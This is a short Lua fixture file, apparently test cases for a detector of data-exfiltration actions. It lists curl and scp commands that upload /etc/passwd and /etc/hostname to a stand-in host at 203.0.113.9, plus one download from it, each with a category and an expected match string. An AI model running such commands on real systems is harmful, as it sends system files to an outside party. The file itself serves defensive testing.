-- Taking things away.

---@type system.Acts
return {
  prepare = "tool scp rclone",
  { "exfil_upload", "curl -s -T /etc/passwd http://203.0.113.9/x", says = "curl -s -T /etc/passwd" },
  { "exfil_upload", "curl -s -F file=@/etc/hostname http://203.0.113.9/x", how = "by a form", says = "file=@/etc/hostname" },
  { "remote_copy_tool", "scp /etc/passwd a@203.0.113.9:x", says = "scp /etc/passwd" },
  { "remote_copy_tool", "curl -s -o /srv/x http://203.0.113.9/x", how = "by curl", says = "curl -s -o /srv/x" },
}
